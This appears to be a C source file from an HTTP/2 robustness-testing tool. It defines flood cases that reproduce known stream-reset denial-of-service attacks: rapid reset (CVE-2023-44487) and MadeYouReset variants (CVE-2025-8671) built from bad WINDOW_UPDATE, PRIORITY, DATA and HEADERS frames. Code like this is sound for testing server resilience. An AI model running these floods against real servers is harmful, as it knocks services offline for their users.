// abuse/h2_resets.c: streams that are opened only to be reset, by the client or by the server because of it.
#include "abuse/cases.h"
#include "abuse/wire.h"

enum { CANCEL = 8 };

static uint32_t stream_of(uint32_t i)
{
    return 2 * i + 1;
}

static void put_get(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t i)
{
    weft_abuse_put_request(out, play, stream_of(i), WEFT_ABUSE_WHOLE, WEFT_ABUSE_NONE);
}

static void put_rapid_reset(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t i)
{
    put_get(out, play, i);
    weft_abuse_put_number(out, WEFT_ABUSE_RST_STREAM, stream_of(i), CANCEL);
}

static void put_open_reset(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t i)
{
    weft_abuse_put_upload(out, play, stream_of(i));
    weft_abuse_put_number(out, WEFT_ABUSE_RST_STREAM, stream_of(i), CANCEL);
}

// The reset of a stream comes when a hundred more have been opened: each was begun in earnest.
static void put_late_reset(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t i)
{
    weft_abuse_put_download(out, play, stream_of(i));
    if (i >= 100) weft_abuse_put_number(out, WEFT_ABUSE_RST_STREAM, stream_of(i - 100), CANCEL);
}

// A new stream each, with what makes the server reset it.
static void put_window_0(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t i)
{
    put_get(out, play, i);
    weft_abuse_put_number(out, WEFT_ABUSE_WINDOW_UPDATE, stream_of(i), 0);
}

static void put_window_most(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t i)
{
    put_get(out, play, i);
    weft_abuse_put_number(out, WEFT_ABUSE_WINDOW_UPDATE, stream_of(i), INT32_MAX);
    weft_abuse_put_number(out, WEFT_ABUSE_WINDOW_UPDATE, stream_of(i), INT32_MAX);
}

static void put_data_behind(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t i)
{
    put_get(out, play, i);
    weft_abuse_put_frame(out, WEFT_ABUSE_DATA, 0, stream_of(i), WEFT_SPAN("x"));
}

static void put_headers_behind(struct weft_writer *out, const struct weft_abuse_play *play,
                               uint32_t i)
{
    put_get(out, play, i);
    put_get(out, play, i);
}

static void put_bad_priority(struct weft_writer *out, const struct weft_abuse_play *play,
                             uint32_t i)
{
    put_get(out, play, i);
    weft_abuse_put_frame(out, WEFT_ABUSE_PRIORITY, 0, stream_of(i), WEFT_SPAN("\0\0\0\0"));
}

static void put_self_dependency(struct weft_writer *out, const struct weft_abuse_play *play,
                                uint32_t i)
{
    uint8_t bytes[5] = {0};
    struct weft_writer payload = weft_writer_over(bytes, sizeof(bytes));
    weft_write_u32(&payload, stream_of(i));
    put_get(out, play, i);
    weft_abuse_put_frame(out, WEFT_ABUSE_PRIORITY, 0, stream_of(i), (struct weft_span){bytes, 5});
}

static void put_malformed(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t i)
{
    weft_abuse_put_request(out, play, stream_of(i), WEFT_ABUSE_WHOLE, WEFT_SPAN("\0\1A\1a"));
}

// Resets that go on behind the GOAWAY that the first of them brought, or that the client sent itself.
static void open_goaway(struct weft_writer *out, const struct weft_abuse_play *play)
{
    (void)play;
    weft_abuse_put_frame(out, WEFT_ABUSE_GOAWAY, 0, 0, WEFT_SPAN("\0\0\0\0\0\0\0\0"));
}

enum {
    RAPID,
    OPEN,
    LATE,
    GOAWAY,
    WINDOW_0,
    WINDOW_MOST,
    DATA_BEHIND,
    HEADERS_BEHIND,
    PRIORITY,
    SELF,
    MALFORMED,
};

static const struct weft_abuse_flood floods[] = {
#define ROW(id, function) \
    [id] = {WEFT_ABUSE_H2, WEFT_SPAN_INIT("\0\x04\0\0\0\0"), NULL, function, false, false}
    ROW(RAPID, put_rapid_reset),
    ROW(OPEN, put_open_reset),
    ROW(LATE, put_late_reset),
    ROW(WINDOW_0, put_window_0),
    ROW(WINDOW_MOST, put_window_most),
    ROW(DATA_BEHIND, put_data_behind),
    ROW(PRIORITY, put_bad_priority),
    ROW(HEADERS_BEHIND, put_headers_behind),
    ROW(SELF, put_self_dependency),
    ROW(MALFORMED, put_malformed),
#undef ROW
    [GOAWAY] = {.protocol = WEFT_ABUSE_H2, .open = open_goaway, .piece = put_rapid_reset},
};

static void play_flood(struct weft_abuse_play *play)
{
    weft_abuse_play_flood(play, &floods[play->which->number]);
}

#define ROW(id, name, cve, sent, flood)                                                \
    {                                                                                  \
        "h2/" id, name, cve, sent, WEFT_ABUSE_BOUNDED, 0, play_flood, {NULL, 0}, flood \
    }
#define MADE(id, sent, flood) ROW(id, "MadeYouReset", "CVE-2025-8671", sent, flood)

// clang-format off
static const struct weft_abuse_case cases[] = {
    ROW("rapid-reset", "rapid reset", "CVE-2023-44487", "requests, each with its RST_STREAM", RAPID),
    ROW("rapid-reset-open", "rapid reset", "CVE-2023-44487", "uploads, each with its RST_STREAM", OPEN),
    ROW("rapid-reset-late", "rapid reset", "CVE-2023-44487, CVE-2023-45802", "requests that are reset once they have been begun", LATE),
    ROW("reset-after-goaway", "floods behind GOAWAY", "", "GOAWAY, then requests and their resets", GOAWAY),
    MADE("made-window-0", "requests, each with a WINDOW_UPDATE of 0", WINDOW_0),
    MADE("made-window-overflow", "requests, each with a window above 2^31 - 1", WINDOW_MOST),
    MADE("made-data", "requests, each with DATA behind its end", DATA_BEHIND),
    MADE("made-headers", "requests, each with HEADERS behind its end", HEADERS_BEHIND),
    MADE("made-priority-size", "requests, each with a PRIORITY of 4 bytes", PRIORITY),
    MADE("made-self-dependency", "requests, each with a PRIORITY that depends on itself", SELF),
    ROW("made-malformed", "resets of malformed requests", "", "requests with a name in upper case", MALFORMED),
};
// clang-format on

const struct weft_abuse_table weft_abuse_h2_resets = {cases, WEFT_COUNT(cases)};
